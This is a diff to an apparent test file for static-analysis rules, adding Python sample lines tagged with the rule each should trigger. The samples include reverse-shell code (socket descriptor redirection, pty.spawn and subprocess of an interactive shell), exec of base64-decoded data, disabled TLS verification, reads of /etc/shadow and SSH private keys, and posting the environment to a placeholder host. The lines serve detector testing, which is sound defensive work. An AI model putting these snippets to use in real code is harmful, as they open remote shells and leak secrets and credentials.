@@ -36,10 +36,21 @@ def runs(data, sock, name):
     eval(name)
     eval("1 + 1")
     model.eval()
-    # ruleid: python.reverse_shell
+    # ruleid: python.decoded_code, python.eval
+    builtins.exec(base64 . b64decode(data))
+    # ruleid: python.eval
+    run = exec
+    # ruleid: python.eval
+    getattr(builtins, "eval")(name)
+    # ruleid: python.descriptors
     os.dup2(sock.fileno(), 0)
+    os.dup2(sys.stdout.fileno(), 2)
     # ruleid: python.reverse_shell
     pty.spawn("/bin/sh")
+    # ruleid: python.reverse_shell
+    pty.spawn(["/bin/bash", "-i"])
+    # ruleid: python.reverse_shell
+    subprocess.call(["/bin/sh", "-i"], stdin=sock.fileno(), stdout=sock.fileno())
     pty.spawn("vi")
 
 
@@ -82,6 +93,9 @@ def speaks(url, context, client, token):
     # ruleid: python.tls_unverified
     requests.get(url, verify=False)
     requests.get(url, verify="ca.pem")
+    # ruleid: python.tls_unverified
+    session.verify = False
+    mock.check(url, verify=False)
     # ruleid: python.tls_unverified
     context.verify_mode = ssl.CERT_NONE
     context.verify_mode = ssl.CERT_REQUIRED
@@ -165,6 +179,9 @@ def takes(home):
     key = home / ".aws/credentials"
     # ruleid: python.reads_keys
     pathlib.Path("/etc/shadow").read_text()
+    # ruleid: python.reads_keys
+    pathlib.Path.home() / ".ssh" / "id_rsa"
+    queue.put(dict(os.environ))
     pathlib.Path("/etc/hosts").read_text()
     # ruleid: python.sends_environment
     requests.post("https://a.example", json=dict(os.environ))
